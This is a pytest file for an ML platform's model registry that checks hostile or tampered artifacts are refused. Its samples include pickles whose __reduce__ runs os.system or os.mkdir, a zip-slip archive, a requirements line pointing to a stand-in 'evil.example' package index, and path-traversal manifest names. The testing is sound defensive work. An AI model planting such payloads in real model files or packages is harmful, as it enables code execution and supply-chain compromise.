"""Bytes from somebody who means ill: every one is refused, in a sentence, and none of them runs.

`ATTACKS` is the table of docs/registry.md; a test holds the two together.
"""

import bz2
import contextlib
import hashlib
import io
import json
import lzma
import os
import pickle  # noqa: TID251  What an attacker sends.
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from safetensors.numpy import load, save

from mlplatform.errors import CorruptionError, LakeError, PlatformError
from mlplatform.features.encoder import Encoder
from mlplatform.features.mlflow_model import SOURCE
from mlplatform.features.program import Predictor, _params
from mlplatform.features.signature import Signature
from mlplatform.lake import Lake, manifest
from mlplatform.lake.artifacts import Artifact
from mlplatform.registry import hostile
from mlplatform.registry.folder import Folder
from mlplatform.registry.pickled import is_pickle
from mlplatform.registry.probe import require_loads
from mlplatform_tests.features import people
from mlplatform_tests.models import exported_model

SEED = 20260101
FLIPS, ON_DISK, FORGED, PROGRAMS = 2000, 150, 1500, 60
Files = dict[str, bytes]


@pytest.fixture(scope="module")
def files() -> Files:
    return {
        **exported_model(people.encoder(), people.program().content),
        "training.json": b'{"model": {}}',
    }


@pytest.fixture
def lake(tmp_path) -> Lake:
    return Lake(tmp_path / "lake")


class Runs:
    """A pickle of it runs a command when it is loaded."""

    def __reduce__(self):
        return os.system, ("touch /tmp/mlplatform-pickle-ran",)


def evil(protocol: int) -> bytes:
    return pickle.dumps(Runs(), protocol=protocol)


class Marks:
    """A pickle of it makes a file when it is loaded."""

    def __init__(self, at: Path) -> None:
        self.at = at

    def __reduce__(self):
        return os.mkdir, (str(self.at),)


def torn(at: Path | str = "/tmp/mlplatform-pickle-ran", end: bytes = b"") -> bytes:  # noqa: S108
    """A pickle without its last word: whoever loads it runs it first and complains then."""
    return pickle.dumps(Marks(Path(at)), protocol=2)[:-1] + end


def told_a_pickle(files: Files) -> Files:
    """The files of a model whose MLmodel names a pickle beside it."""
    said = yaml.safe_load(files["MLmodel"])
    function = said["flavors"]["python_function"]
    del function["model_code_path"]
    function |= {"python_model": "training.json", "cloudpickle_version": "3.0"}
    return {**files, "MLmodel": yaml.safe_dump(said, sort_keys=False).encode()}


def zip_slip() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("../../sitecustomize.py", "raise SystemExit")
    return made.getvalue()


def lying(content: bytes, **header: object) -> bytes:
    """A safetensors file whose header says something else of its first tensor."""
    (size,) = struct.unpack("<Q", content[:8])
    said = json.loads(content[8 : 8 + size])
    name = next(key for key in said if key != "__metadata__")
    said[name] |= header
    text = json.dumps(said).encode()
    return struct.pack("<Q", len(text)) + text + content[8 + size :]


# Somebody writes into the folder of an artifact: what is done to its path, and what the lake says.
def _flip(folder: Path) -> None:
    _change(folder / "params.safetensors", lambda data: data[:-1] + bytes([data[-1] ^ 1]))


def _change(file: Path, how: Callable[[bytes], bytes]) -> None:
    file.write_bytes(how(file.read_bytes()))


def _swap(folder: Path) -> None:
    one, other = folder / "features.json", folder / "signature.json"
    data = one.read_bytes()
    one.write_bytes(other.read_bytes())
    other.write_bytes(data)


def _link(folder: Path) -> None:
    (folder / "features.json").rename(folder.parent / "elsewhere.json")
    (folder / "features.json").symlink_to(folder.parent / "elsewhere.json")


WRITTEN: dict[str, tuple[Callable[[Path], object], str]] = {
    "one bit of the weights": (_flip, "is damaged: expected sha256"),
    "a program cut off": (
        lambda folder: _change(folder / "program.stablehlo", lambda data: data[:-9]),
        r"is damaged: expected [\d,]+ bytes, got",
    ),
    "an empty file": (
        lambda folder: (folder / "training.json").write_bytes(b""),
        "is damaged: expected 13 bytes, got 0",
    ),
    "bytes put behind a file": (
        lambda folder: _change(folder / "features.json", lambda data: data + b" "),
        r"is damaged: expected [\d,]+ bytes, got",
    ),
    "two files swapped": (_swap, "is damaged: expected"),
    "a file removed": (lambda folder: (folder / "signature.json").unlink(), "is missing"),
    "a file replaced by a link to its own bytes": (_link, "is a symbolic link"),
    "a further file": (
        lambda folder: (folder / "sitecustomize.py").write_text("raise SystemExit"),
        r"holds 'sitecustomize\.py', which its manifest does not name",
    ),
    "a further folder": (
        lambda folder: (folder / "__pycache__").mkdir(),
        "holds '__pycache__', which its manifest does not name",
    ),
    "a pickle over the weights": (
        lambda folder: (folder / "params.safetensors").write_bytes(evil(4)),
        r"is damaged: expected [\d,]+ bytes, got",
    ),
    "a changed manifest": (
        lambda folder: _change(
            folder / "manifest.json", lambda data: data.replace(b'"bytes"', b'"Bytes"', 1)
        ),
        r"manifest\.json is damaged: expected sha256",
    ),
}


@pytest.mark.parametrize("attack", WRITTEN)
def test_what_is_written_into_an_artifact_is_refused(lake, files, attack):
    folder = Path(lake.artifacts.open(lake.artifacts.put(files)).uri)
    how, why = WRITTEN[attack]
    how(folder)
    with pytest.raises(LakeError, match=why):
        whole(lake, folder.name)


def whole(lake: Lake, digest: str) -> None:
    """What registering and `registry verify` ask of an artifact."""
    artifact = lake.artifacts.open(digest)
    artifact.require_nothing_else()
    hostile.require_no_code(artifact)


def test_one_changed_byte_anywhere_in_any_file_is_refused(lake, files):
    """Seeded: each file at its first and last byte, in its header and anywhere, flipped, cut or grown."""
    artifact = lake.artifacts.open(lake.artifacts.put(files))
    folder, dice = Path(artifact.uri), random.Random(SEED)  # noqa: S311  No secret.
    names = [*artifact.names, "manifest.json"]
    contents, said = artifact.contents(), artifact.manifest["files"]
    for turn in range(FLIPS):
        name = names[turn % len(names)]
        forged = mutated(contents[name], dice)
        if turn < ON_DISK:
            (folder / name).write_bytes(forged)
            with pytest.raises(CorruptionError, match=re.escape(f"{folder / name} is damaged")):
                opened(lake, artifact.digest, name)
            (folder / name).write_bytes(contents[name])
        elif name == manifest.FILE:
            assert hashlib.sha256(forged).hexdigest() != artifact.digest
        else:
            with pytest.raises(CorruptionError):
                manifest.check_bytes(name, forged, said[name])
    assert artifact.verify() == artifact.size_bytes


def opened(lake: Lake, digest: str, name: str) -> None:
    artifact = lake.artifacts.open(digest)
    if name != "manifest.json":
        artifact.read(name)


def mutated(data: bytes, dice: random.Random) -> bytes:
    """Bytes that differ from `data`: at its ends, in its head or anywhere; changed, cut, grown or repeated."""
    place = dice.choice([0, len(data) - 1, min(7, len(data) - 1), dice.randrange(len(data))])
    kind = dice.randrange(4)
    if kind == 0:
        return data[:place] + bytes([data[place] ^ (1 << dice.randrange(8))]) + data[place + 1 :]
    if kind == 1:
        return data[:place]
    if kind == 2:
        return data[:place] + dice.randbytes(dice.randint(1, 9)) + data[place:]
    return data + data[place : place + 64] + b"\0"


# Somebody stores an artifact of their own, whose digest is right: a manifest that was never ours.
def _one(name: str = "a.txt", **changes: object) -> object:
    said = {"sha256": "0" * 64, "bytes": 1, **changes}
    return {"files": {name: said}, "facts": {}}


MANIFESTS: dict[str, tuple[object, str]] = {
    "a name that leads out: ../x": (_one("../x"), r"names a file '\.\./x', which is no plain"),
    "an absolute name": (_one("/etc/passwd"), "names a file '/etc/passwd', which is no plain"),
    "a name in a folder": (_one("a/b"), "which is no plain file name"),
    "a name with a NUL": (_one("a\0b"), "which is no plain file name"),
    "a hidden name": (_one(".bashrc"), "which is no plain file name"),
    "a name of 10,000 letters": (_one("a" * 10_000), "which is no plain file name"),
    "the manifest itself": (_one("manifest.json"), "names itself"),
    "a digest that is none": (_one(sha256="../x"), r"gives a\.txt no sha256"),
    "a negative size": (_one(bytes=-1), r"gives a\.txt no size in bytes"),
    "a size that is true": (_one(bytes=True), r"gives a\.txt no size in bytes"),
    "further words": (_one(link="/etc"), r"does not say sha256 and bytes alone of a\.txt"),
    "no files": ({"files": {}, "facts": {}}, "names no files"),
    "facts that are a list": ({**_one(), "facts": []}, "or its facts are no object"),
    "another object": ({"version": 2}, "does not hold files and facts alone"),
    "a list": ([], "does not hold files and facts alone"),
    "no JSON": (b"\x80\x04K\x01.", "is no JSON"),
    "half of a JSON": (b'{"files": {', "is no JSON"),
    "100,000 brackets": (b"[" * 100_000, "is no JSON"),
    "17 MiB": (b" " * (17 << 20), r"has 17,825,792 bytes, more than 16,777,216"),
}


def planted(lake: Lake, content: object) -> str:
    """Write a manifest under its own digest, as somebody with access to the disk can; return that."""
    data = content if isinstance(content, bytes) else json.dumps(content).encode()
    digest = hashlib.sha256(data).hexdigest()
    folder = Path(lake.root, "_artifacts", digest)
    folder.mkdir(parents=True)
    (folder / "manifest.json").write_bytes(data)
    return digest


@pytest.mark.parametrize("attack", MANIFESTS)
def test_a_manifest_of_somebody_elses_is_refused(lake, attack):
    content, why = MANIFESTS[attack]
    digest = planted(lake, content)
    with pytest.raises(CorruptionError, match=why):
        lake.artifacts.open(digest)
    with pytest.raises(CorruptionError, match=why):
        Folder.verified(Path(lake.root, "_artifacts", digest))


def test_no_forged_manifest_gets_past_the_form(files):
    """Seeded: whatever is done to the text of a manifest, it is refused, or still says plain names."""
    data, dice = manifest.compose(files, {"rows": 3}), random.Random(SEED)  # noqa: S311
    for _ in range(FORGED):
        forged = mutated(data, dice)
        try:
            says = manifest.parse("x", forged)
        except CorruptionError:
            continue
        assert all(re.fullmatch(r"MLmodel|[a-z0-9][a-z0-9_.-]*", name) for name in says["files"])


# Files that are stored under their right digest, and are no model.
def _with(**content: bytes | Callable[[Files], bytes]) -> Callable[[Files], Files]:
    def made(files: Files) -> Files:
        named = {name.replace("__", "."): how for name, how in content.items()}
        return files | {n: how(files) if callable(how) else how for n, how in named.items()}

    return made


def _header(size: int) -> bytes:
    return struct.pack("<Q", size) + b"{}"


def _weights(**header: object) -> Callable[[Files], bytes]:
    return lambda files: lying(files["params.safetensors"], **header)


FORGERIES: dict[str, tuple[Callable[[Files], Files], str]] = {
    **{
        f"a pickle of protocol {n} named params.safetensors": (
            _with(params__safetensors=evil(n)),
            r"params\.safetensors is a pickle",
        )
        for n in (0, 2, 4, 5)
    },
    "a pickle named program.stablehlo": (
        _with(program__stablehlo=evil(4)),
        r"program\.stablehlo is a pickle",
    ),
    "a pickle named model.pkl": (_with(model__pkl=evil(2)), r"model\.pkl is a pickle"),
    "a pickle without an end": (_with(training__json=torn()), r"training\.json is a pickle"),
    "a pickle that ends in no word": (
        _with(training__json=torn(end=b"\xff")),
        r"training\.json is a pickle",
    ),
    "a pickle behind a number that only its reader takes": (
        _with(training__json=b"I0x10\n0" + torn()[2:]),
        r"training\.json is a pickle",
    ),
    "a pickle in a NumPy file": (
        _with(training__json=b"\x93NUMPY" + evil(2)),
        r"training\.json is a NumPy file",
    ),
    "a pickle compressed by bz2": (_with(training__json=bz2.compress(evil(2))), "is a bzip2 file"),
    "a pickle compressed by xz": (_with(training__json=lzma.compress(evil(2))), "is a xz file"),
    "a pickle compressed by zlib": (
        _with(training__json=zlib.compress(evil(2))),
        "is a zlib stream",
    ),
    "a file that no export writes": (
        _with(weights__bin=b"weights"),
        r"weights\.bin is no file of a model",
    ),
    "an MLmodel that names a pickle": (told_a_pickle, r"MLmodel is not what an export writes"),
    "an MLmodel with one more line": (
        _with(MLmodel=lambda files: files["MLmodel"] + b"run_id: x\n"),
        r"MLmodel is not what an export writes",
    ),
    "requirements that name another package": (
        _with(requirements__txt=lambda files: files["requirements.txt"] + b"evil==1.0\n"),
        r"requirements\.txt is not what an export writes",
    ),
    "requirements from another place": (
        _with(requirements__txt=b"--index-url http://evil.example\n"),
        r"requirements\.txt is not what an export writes",
    ),
    "an environment with more in it": (
        _with(python_env__yaml=lambda files: files["python_env.yaml"] + b"- evil\n"),
        r"python_env\.yaml is not what an export writes",
    ),
    "an archive whose member leads out": (_with(extra__zip=zip_slip()), "is a zip archive"),
    "other code for MLflow": (
        _with(mlflow_model__py=b"import os\n"),
        r"mlflow_model\.py is not the code that an export writes",
    ),
    "code beside the model": (_with(sitecustomize__py=SOURCE.encode()), "is code"),
    "weights whose header is longer than the file": (
        _with(params__safetensors=_header(2**40)),
        r"params\.safetensors cannot be read",
    ),
    "weights that lie outside of the file": (
        _with(params__safetensors=_weights(data_offsets=[0, 2**40])),
        r"params\.safetensors cannot be read",
    ),
    "weights that overlap": (
        _with(params__safetensors=_weights(data_offsets=[4, 8])),
        r"params\.safetensors cannot be read",
    ),
    "weights of another type": (
        _with(params__safetensors=_weights(dtype="I32")),
        r"params\.safetensors: \w+ is int32",
    ),
    "weights of another shape": (
        _with(params__safetensors=_weights(shape=[2**31, 2**31])),
        r"params\.safetensors cannot be read",
    ),
    "a tensor too many": (
        _with(
            params__safetensors=lambda files: save(
                load(files["params.safetensors"]) | {"x": load(files["params.safetensors"])["bias"]}
            )
        ),
        r"holds other names than signature\.json",
    ),
    "features nested 100,000 deep": (
        _with(features__json=b"[" * 100_000),
        r"features\.json is no JSON",
    ),
    "a signature nested 100,000 deep": (
        _with(signature__json=b'{"a":' * 100_000),
        r"signature\.json is not what an export wrote",
    ),
    "a signature of other features": (
        _with(signature__json=lambda files: files["signature.json"].replace(b'"age"', b'"Age"')),
        r"signature\.json does not describe features\.json",
    ),
    "no program at all": (
        _with(program__stablehlo=b"no program"),
        r"program\.stablehlo cannot be read",
    ),
}


@pytest.mark.parametrize("attack", FORGERIES)
def test_files_that_are_no_model_are_refused_whatever_their_digest(lake, files, attack):
    made, why = FORGERIES[attack]
    artifact = lake.artifacts.open(lake.artifacts.put(made(files)))
    with pytest.raises(CorruptionError, match=why):
        admitted(artifact)
    assert not Path("/tmp/mlplatform-pickle-ran").exists()  # noqa: S108  The attacker's.


def admitted(artifact: Artifact) -> None:
    """What stands between an artifact and traffic."""
    hostile.require_no_code(artifact)
    Predictor.load(artifact)


def test_what_a_model_holds_is_no_pickle_and_no_archive(files):
    hostile.check(files, "model")
    assert not any(is_pickle(data) for data in files.values())
    header = b'{"x":{"dtype":"F32","shape":[0],"data_offsets":[0,0]}}'.ljust(0x480)
    assert not is_pickle(struct.pack("<Q", 0x480) + header)  # It begins as protocol 4 does.
    dice = random.Random(SEED)  # noqa: S311  No secret.
    for size in range(8, 1 << 17, 8):  # The first bytes of weights are the length of their header.
        weights = struct.pack("<Q", size) + header.strip() + dice.randbytes(200)
        assert hostile._form(weights) == "", size


def test_a_pickle_is_one_however_it_ends(tmp_path):
    """What is told as a pickle here did run; what is told as none did not."""
    for number, end in enumerate((b"", b".", b"\xff", b"X\xff\xff\xff\x7f", b"I0x\n.")):
        data = torn(tmp_path / str(number), end)
        with contextlib.suppress(Exception):
            pickle.loads(data)  # noqa: S301
        assert (tmp_path / str(number)).exists()
        assert is_pickle(data)
    assert is_pickle(b"cos\nsystem\n(S'x'\ntR")
    assert is_pickle(pickle.dumps({"only": "data"}, protocol=0))
    assert not is_pickle(b"")
    assert not is_pickle(b'{"c": 1}')


READERS: dict[str, Callable[[bytes, Files], object]] = {
    "features.json": lambda data, _: Encoder.from_json(data),
    "signature.json": lambda data, _: Signature.from_json(data),
    "params.safetensors": lambda data, files: _params(
        data, Signature.from_json(files["signature.json"])
    ),
}


@pytest.mark.parametrize("name", READERS)
def test_a_reader_refuses_forged_bytes_in_its_own_words(files, name):
    """Seeded: whatever stands in a file, its reader returns or says what is wrong; nothing else is raised."""
    dice = random.Random(f"{SEED} {name}")  # noqa: S311
    for _ in range(FORGED // len(READERS)):
        forged = mutated(files[name], dice)
        with contextlib.suppress(PlatformError):
            READERS[name](forged, files)


def test_a_model_is_tried_in_a_process_of_its_own(lake, files):
    broken = lake.artifacts.open(lake.artifacts.put({**files, "program.stablehlo": b"x" * 400}))
    with pytest.raises(CorruptionError, match=r"people version 2: (program|reading it ended)"):
        require_loads(broken.contents(), "people version 2")


MUTATED_PROGRAMS = """
import random, sys
from mlplatform.errors import CorruptionError
from mlplatform.features.program_export import deserialized
from mlplatform_tests.registry.test_hostile import mutated
program = open(sys.argv[1], "rb").read()
for seed in range(int(sys.argv[2]), int(sys.argv[3])):
    print(seed, flush=True)
    try:
        deserialized(mutated(program, random.Random(seed)), "program.stablehlo")
    except CorruptionError:
        pass
"""


def test_a_damaged_program_ends_at_most_the_process_that_reads_it(files, tmp_path):
    """It is native code that reads, so nothing reads a program before its digest is proven, or apart."""
    import subprocess
    import sys

    (tmp_path / "program").write_bytes(files["program.stablehlo"])
    first, ended = 0, 0
    while first < PROGRAMS and ended < 4:  # A process each costs seconds.
        command = [sys.executable, "-c", MUTATED_PROGRAMS, str(tmp_path / "program")]
        done = subprocess.run(
            [*command, str(first), str(PROGRAMS)], capture_output=True, text=True, check=False
        )
        assert done.returncode <= 0, done.stderr
        ended += done.returncode < 0
        first = int(done.stdout.split()[-1]) + 1
    assert first > 0


ATTACKS = {**WRITTEN, **MANIFESTS, **FORGERIES}


def test_the_table_in_the_docs_is_what_was_tried(root):
    text = (root / "docs" / "registry.md").read_text()
    told = {row.split("|")[1].strip() for row in text.splitlines() if row.startswith("| ")}
    assert set(ATTACKS) <= told
